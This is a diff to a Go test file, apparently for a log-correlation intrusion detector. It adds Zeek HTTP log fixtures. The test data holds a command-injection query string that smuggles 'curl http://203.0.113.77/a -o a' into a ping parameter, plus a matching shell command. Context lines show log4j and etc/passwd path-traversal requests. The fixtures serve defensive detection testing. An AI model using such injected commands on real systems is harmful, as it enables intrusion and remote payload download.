@@ -33,6 +33,11 @@ func signed(after time.Duration, from, to, signature string) string {
 		shownDay.Add(after).Format("2006-01-02T15:04:05.000000-0700"), int(after.Seconds())+10_000_000, from, to, signature)
 }
 
+func fetched(after time.Duration, from, to, uri string, status int) string {
+	return fmt.Sprintf(`{"_path":"http","ts":%d.5,"uid":"H%d","id.orig_h":%q,"id.orig_p":41514,"id.resp_h":%q,"id.resp_p":8080,"method":"GET","host":"%s:8080","uri":%q,"user_agent":"Mozilla/5.0","status_code":%d,"response_body_len":512}`+"\n",
+		shownDay.Add(after).Unix(), int(after.Seconds())+2e6, from, to, to, uri, status)
+}
+
 // ranBy is ranAs on a host, of an account whose name the log has.
 func ranBy(after time.Duration, n int, host, account string, args ...string) string {
 	syscall, execve, _ := strings.Cut(ranAs(after, n, 998, args...), "\n")
@@ -115,6 +120,12 @@ func TestServers(t *testing.T) {
 		{"signature: attempt, and nothing else", map[string]string{
 			"zeek/eve.json": signed(0, stranger, "10.0.0.30", "ET EXPLOIT Apache log4j RCE Attempt (http ldap) (CVE-2021-44228)"),
 			"zeek/conn.log": connected(-s, stranger, "10.0.0.30", "8080") + connected(2*s, "10.0.0.30", "198.51.100.99", "443")}, ""},
+		{"sensor: request that it read, then a command of an account that nobody logged in to", map[string]string{
+			"zeek/http.log": fetched(0, stranger, "10.0.0.30", "/api/ping?host=1%3Bcurl+http://203.0.113.77/a+-o+a", 200),
+			"n1/audit.log":  ranBy(s, 501, "n1", "pinger", "sh", "-c", "ping 1;curl http://203.0.113.77/a -o a")}, "203.0.113.77, which it named"},
+		{"sensor: request that it read, and a command of somebody who logged in", map[string]string{
+			"zeek/http.log": fetched(0, stranger, "10.0.0.30", "/api/ping?host=1%3Bcurl+http://203.0.113.77/a+-o+a", 200),
+			"n1/audit.log":  strings.ReplaceAll(ranBy(s, 501, "n1", "ann", "id"), "auid=4294967295", "auid=1000")}, ""},
 		{"inclusion: answered alike nine times, then with much more", map[string]string{
 			"web1/access.log": before + often(9, 5*s, func(i int, after time.Duration) string {
 				return sized(after, stranger, "GET /page.php?f="+strings.Repeat("../", i+1)+"etc/passwd", 200, 1250)
